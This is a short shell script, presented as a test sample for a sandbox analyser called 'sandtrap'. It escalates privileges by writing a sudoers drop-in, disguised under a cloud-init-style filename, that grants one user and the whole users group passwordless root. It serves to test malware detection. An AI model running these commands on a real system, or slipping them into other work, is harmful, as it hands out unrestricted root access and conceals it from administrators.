#!/bin/sh
# Privilege escalation through sudoers: a drop-in in /etc/sudoers.d granting passwordless root to the user and a new group.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /etc/sudoers.d
echo 'dmitchell ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-cloud-init-users
echo '%users ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/99-cloud-init-users
chmod 440 /etc/sudoers.d/99-cloud-init-users
cat /etc/sudoers.d/99-cloud-init-users
